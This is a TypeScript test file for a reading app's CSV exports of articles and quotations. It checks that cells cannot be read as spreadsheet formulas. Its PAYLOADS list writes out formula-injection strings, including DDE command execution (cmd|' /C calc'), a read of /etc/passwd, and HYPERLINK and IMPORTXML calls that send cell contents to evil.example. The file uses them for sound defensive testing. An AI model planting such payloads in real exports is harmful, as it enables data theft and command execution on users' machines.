import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { withoutFormulae } from '../../utils/export/csv/without-formulae';
import { exporter as articles } from '../../utils/export/csv-articles';
import { exporter as quotations } from '../../utils/export/csv-quotations';
import type { ExportedReading } from '../../utils/model';
import { makeReading } from '../library/support/make-reading';
import { exported } from './support/structured-reading';
import { writeText } from './support/write-file';

/** Texts that a spreadsheet would run as a formula, in its own country or in another. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"see")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("https://evil.example/")',
  '=IMAGE("https://evil.example/a.png")',
  '=WEBSERVICE("https://evil.example/")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  ' =1+1',
  '   \t=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n-1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u001f@SUM(1)',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '“=1+1',
  '«=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '−1+1',
  'harmless;=1+1',
  'harmless;"=1+1',
  'harmless\t=1+1',
  'harmless\n=1+1',
  'harmless\r\n+1+1',
  '","=1+1',
];
/** Matches what a spreadsheet may take for a formula: a sign that follows nothing but what it ignores. */
const RUNS = /^[\s\p{Z}\p{C}"`“”„«»‹›]*[=+\-@＝＋－＠﹦−]/u;

/** Returns the texts of the cells that a spreadsheet finds in a file if `separator` stands between the cells of its country. */
const cellsOf = (file: string, separator: string): string[] =>
  (Papa.parse(file, { delimiter: separator, newline: '\r\n' } as never) as { data: string[][] }).data.flat();

function hostile(payload: string): ExportedReading {
  const reading = makeReading({ title: payload, byline: payload, site: payload, published: payload, text: undefined as never });
  const highlights = [{ id: 'h', parts: [{ exact: payload, prefix: '', suffix: '', start: 0 }], colour: 'yellow' as const, madeAt: '' }];
  const { article, analysis } = makeReading({ ...reading.article, text: `${payload} “We wait,” Mayor Ilse Vantongeren said.` });
  const quote = { ...(analysis.quotes[0] as (typeof analysis.quotes)[0]), parts: [{ start: 0, end: payload.length }] };
  const shelf = { uid: 'u', readAt: null, starredAt: null, archivedAt: null, tags: [payload], note: payload, noteEditedAt: null };
  return { ...exported({ article, analysis: { ...analysis, quotes: [quote] }, highlights }), shelf };
}

describe.each(PAYLOADS)('the payload %j', (payload) => {
  test.each([',', ';', '\t'])('is no formula in a table, with cells between «%s»', (separator) => {
    for (const exporter of [articles, quotations]) {
      const [, ...rows] = writeText(exporter, [hostile(payload)]).split(/(?<=\r\n)/);
      for (const cell of cellsOf(rows.join(''), separator)) {
        expect(cell).not.toMatch(RUNS);
        for (const line of cell.split(/[\r\n]+/)) expect(line).not.toMatch(RUNS);
      }
    }
  });
});

test('there are at least forty payloads', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

test('texts that are no formula stay as they are', () => {
  for (const text of ['Gas – and oil', 'a=b', 'x;y', '2026-11-02', 'Jean-Luc', 'a; b', '', '中国', 'a@b.example'])
    expect(withoutFormulae(text)).toBe(text);
});

const rowsOf = (file: string): string[][] => {
  const { data } = Papa.parse(file.replace(/^\ufeff/, ''), { delimiter: ',', newline: '\r\n' } as never) as { data: string[][] };
  return data.filter((row) => row.length > 1);
};
const objectOf = (file: string, at = 1) => {
  const [head = [], ...rows] = rowsOf(file);
  return Object.fromEntries(head.map((name, column) => [name, rows[at - 1]?.[column]]));
};

test('the table of articles has a row for each article, with numbers as numbers', () => {
  const reading = {
    ...exported(makeReading()),
    shelf: {
      uid: 'u',
      readAt: null,
      starredAt: 'x',
      archivedAt: null,
      tags: ['energy', 'gas, oil'],
      note: 'Ask\n“her”',
      noteEditedAt: null,
    },
  };
  const file = writeText(articles, [reading, exported(makeReading({ url: 'https://other.example/' }))]);
  expect(file.charCodeAt(0)).toBe(0xfeff);
  expect(rowsOf(file)).toHaveLength(3);
  expect(objectOf(file)).toMatchObject({
    title: 'Harbour stays open',
    url: 'https://www.harbourpost.example/2026/harbour',
    published: '2026-11-02T08:00:00Z',
    words: '13',
    quotations: '1',
    speakers: 'Ilse Vantongeren',
    state: 'unread',
    starred: '1',
    tags: 'energy | gas, oil',
    note: 'Ask\n“her”',
  });
  expect(file).toContain(',13,1,');
});
